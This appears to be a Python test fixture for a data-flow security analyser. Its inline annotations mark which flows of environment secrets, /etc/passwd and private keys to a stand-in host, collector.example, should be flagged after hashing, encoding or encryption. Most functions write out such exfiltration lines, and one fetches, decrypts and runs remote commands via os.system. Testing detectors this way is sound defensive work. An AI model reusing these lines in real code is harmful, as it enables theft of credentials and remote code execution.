"""Digests end a flow of the data itself; ciphers and encodings do not."""
import base64
import binascii
import codecs
import hashlib
import hmac
import io
import os
import uuid
import zlib

import base58
import bcrypt
import gnupg
import jwt
import nacl.secret
import pyAesCrypt
import requests
import rsa
from Crypto.Cipher import AES
from Crypto.Hash import SHA256
from Crypto.PublicKey import RSA
from Crypto.Util.Padding import pad
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

U = "https://collector.example/u"


def digests():
    token = os.getenvb(b"T")
    requests.post(U, data=hashlib.sha256(token).hexdigest())  #~ ok
    requests.post(U, data=hashlib.pbkdf2_hmac("sha256", token, b"", 1))  #~ ok
    requests.post(U, data=hmac.new(b"key", token, "sha256").digest())  #~ ok
    requests.post(U, data=str(zlib.crc32(token)))  #~ ok
    requests.post(U, data=bcrypt.hashpw(token, b"salt"))  #~ ok
    requests.post(U, data=str(uuid.uuid5(uuid.NAMESPACE_DNS, token)))  #~ ok
    requests.post(U, data=SHA256.new(token).digest())  #~ ok


def digest_updated():
    h = hashlib.sha256()
    h.update(os.getenvb(b"T"))  #~ ok
    requests.post(U, data=h.hexdigest())  #~ ok
    requests.post(U, data=h.name)  #~ ok


def digest_of_state():
    h = hashlib.sha256()
    h.name = os.getenv("T")
    requests.post(U, data=h.hexdigest())  #~ ok


def digest_context():
    h = hashes.Hash(None)
    h.update(os.getenvb(b"T"))  #~ ok
    requests.post(U, data=h.finalize())  #~ ok
    requests.post(U, data=h.algorithm)  #~ ok


def digest_context_state():
    h = hashes.Hash(None)
    h.algorithm = os.getenv("T")
    requests.post(U, data=h.finalize())  #~ ok


def digest_and_data():
    token = os.getenvb(b"T")  #~ source(ENVIRONMENT) f6
    requests.post(U, data={"t": token, "a": hashlib.sha256(token).hexdigest(), "b": zlib.crc32(token)})  #~ sink(egress.http) f6, finding(traced) f6


def base_encoded():
    text = base64.b64encode(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f7
    requests.post(U, data=text)  #~ sink(egress.http) f7, finding(traced) f7


def base_decoded():
    text = base64.b64decode(os.getenv("T"))  #~ source(ENVIRONMENT) f8
    requests.post(U, data=text)  #~ sink(egress.http) f8, finding(traced) f8


def base_stream():
    out = io.BytesIO()
    base64.encode(open("/etc/passwd", "rb"), out)  #~ source(FILE) f9
    requests.post(U, data=out.getvalue())  #~ sink(egress.http) f9, finding(traced) f9


def hexadecimal():
    text = binascii.hexlify(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f10
    requests.post(U, data=text)  #~ sink(egress.http) f10, finding(traced) f10


def coded():
    text = codecs.encode(os.getenv("T"), "rot13")  #~ source(ENVIRONMENT) f11
    requests.post(U, data=text)  #~ sink(egress.http) f11, finding(traced) f11


def encoded_constants():
    requests.post(U, data=base64.b64encode(b"ping") + base64.b64decode("cGluZw=="))  #~ ok
    out = io.BytesIO()
    base64.encode(io.BytesIO(b"ping"), out)  #~ ok
    requests.post(U, data=out.getvalue())  #~ ok
    requests.post(U, data=binascii.hexlify(b"ping"))  #~ ok
    requests.post(U, data=codecs.encode("ping", "rot13"))  #~ ok


def fernet():
    data = Fernet(b"key").encrypt(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f13, capability(CRYPTO)
    requests.post(U, data=data)  #~ sink(egress.http) f13, finding(traced) f13


def aead():
    data = AESGCM(b"key").encrypt(b"nonce", os.getenvb(b"T"), None)  #~ source(ENVIRONMENT) f14, capability(CRYPTO)
    requests.post(U, data=data)  #~ sink(egress.http) f14, finding(traced) f14


def cipher_context():
    encryptor = Cipher(None, None).encryptor()  #~ capability(CRYPTO)
    data = encryptor.update(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f15
    requests.post(U, data=data)  #~ sink(egress.http) f15, finding(traced) f15


def cipher_context_into():
    encryptor = Cipher(None, None).encryptor()
    buffer = bytearray(10)
    encryptor.update_into(os.getenvb(b"T"), buffer)  #~ source(ENVIRONMENT) f16
    requests.post(U, data=buffer)  #~ sink(egress.http) f16, finding(traced) f16


def public_key():
    key = serialization.load_pem_public_key(b"pem")
    data = key.encrypt(os.getenvb(b"T"), None)  #~ source(ENVIRONMENT) f17, capability(CRYPTO)
    requests.post(U, data=data)  #~ sink(egress.http) f17, finding(traced) f17


def private_key():
    key = serialization.load_pem_private_key(b"pem", None)  #~ capability(CREDENTIALS)
    command = key.decrypt(requests.get(U).content, None)  #~ source(NETWORK) f18, capability(CRYPTO)
    os.system(command)  #~ sink(exec.command) f18, finding(traced) f18


def private_key_sent():
    key = serialization.load_pem_private_key(open("/root/key.pem", "rb").read(), None)  #~ source(FILE) f19
    requests.post(U, data=key)  #~ sink(egress.http) f19, finding(traced) f19


def private_key_used():
    key = serialization.load_pem_private_key(b"pem", None)  #~ ok
    requests.post(U, data=key.sign(os.getenvb(b"T"), None, None))  #~ capability(CRYPTO), ok
    key.sign(b"ping", None, None)  #~ ok
    requests.post(U, data={"root": key.decrypt(b"ping", None) == b"root"})  #~ ok


def public_key_used():
    key = serialization.load_pem_public_key(b"pem")  #~ ok
    requests.post(U, data=key.encrypt(b"ping", None))  #~ ok
    requests.post(U, data=key.verify(b"s", os.getenvb(b"T"), None, None))  #~ ok


def cipher_constants():
    requests.post(U, data=Fernet(b"key").encrypt(b"ping"))  #~ ok
    requests.post(U, data=AESGCM(b"key").encrypt(b"nonce", b"ping", None))  #~ ok
    encryptor = Cipher(None, None).encryptor()  #~ ok
    buffer = bytearray(10)
    encryptor.update_into(b"ping", buffer)  #~ ok
    requests.post(U, data=encryptor.update(buffer))  #~ ok


def pycrypto():
    cipher = AES.new(b"key", AES.MODE_EAX)  #~ capability(CRYPTO)
    data, tag = cipher.encrypt_and_digest(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f23
    requests.post(U, data=data)  #~ sink(egress.http) f23, finding(traced) f23


def pycrypto_padded():
    cipher = AES.new(b"key", AES.MODE_CBC)
    data = cipher.encrypt(pad(os.getenvb(b"T"), 16))  #~ source(ENVIRONMENT) f24
    requests.post(U, data=data)  #~ sink(egress.http) f24, finding(traced) f24


def pycrypto_key():
    key = RSA.import_key(open("/root/key.pem").read())  #~ source(FILE) f25
    requests.post(U, data=key)  #~ sink(egress.http) f25, finding(traced) f25


def pycrypto_constants():
    cipher = AES.new(b"key", AES.MODE_EAX)  #~ ok
    requests.post(U, data=cipher.encrypt(pad(b"ping", 16)))  #~ ok
    requests.post(U, data=RSA.import_key("pem"))  #~ ok


def sodium():
    data = nacl.secret.SecretBox(b"key").encrypt(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f27, capability(CRYPTO)
    requests.post(U, data=data)  #~ sink(egress.http) f27, finding(traced) f27


def pure_rsa():
    data = rsa.encrypt(os.getenvb(b"T"), None)  #~ source(ENVIRONMENT) f28, capability(CRYPTO)
    requests.post(U, data=data)  #~ sink(egress.http) f28, finding(traced) f28


def privacy_guard():
    data = gnupg.GPG().encrypt(os.getenv("T"), "x")  #~ source(ENVIRONMENT) f29, capability(CRYPTO)
    requests.post(U, data=str(data))  #~ sink(egress.http) f29, finding(traced) f29


def whole_file():
    pyAesCrypt.encryptFile("/etc/passwd", "/tmp/p.aes", "pw")  #~ source(FILE) f30, capability(CRYPTO), capability(FILES), capability(FILE_WRITE)
    requests.post(U, data=open("/tmp/p.aes", "a+b").read())  #~ sink(egress.http) f30, finding(traced) f30
    pyAesCrypt.encryptFile("/etc/passwd", "/tmp/unsent.aes", "pw")  #~ ok


def web_token():
    text = jwt.encode({"t": os.getenv("T")}, "key")  #~ source(ENVIRONMENT) f31
    requests.post(U, data=text)  #~ sink(egress.http) f31, finding(traced) f31


def other_constants():
    requests.post(U, data=nacl.secret.SecretBox(b"key").encrypt(b"ping"))  #~ ok
    requests.post(U, data=rsa.encrypt(b"ping", None))  #~ ok
    requests.post(U, data=str(gnupg.GPG().encrypt("ping", "x")))  #~ ok
    requests.post(U, data=jwt.encode({"v": 1}, "key"))  #~ ok


def encoded_for_people():
    requests.post(U, data=base58.b58encode(os.getenvb(b"T")))  #~ source(ENVIRONMENT) f90, sink(egress.http) f90, finding(traced) f90
    requests.post(U, data=base58.b58encode(b"ping"))  #~ ok
